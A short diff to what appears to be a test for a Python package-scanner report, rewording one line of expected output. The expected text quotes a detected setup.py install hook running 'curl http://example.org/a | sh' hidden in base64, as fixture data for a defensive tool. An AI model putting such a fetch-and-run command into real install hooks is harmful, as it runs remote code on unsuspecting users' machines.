@@ -73,7 +73,7 @@ test("draws trigger, file, way and effect, and says what is left out", () => {
     "",
     "On download",
     "  It runs as soon as a tool asks for metadata: pip download, pip install --dry-run and pip lock",
-    "  always; uv lock and poetry lock where the sdist's own metadata does not do.",
+    "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
     "  m-1.0/setup.py - setup.py",
     "    cmdclass install > Install.run",
     "       12  HIGH os.system curl http://example.org/a | sh [hidden in base64] [process.spawn]",
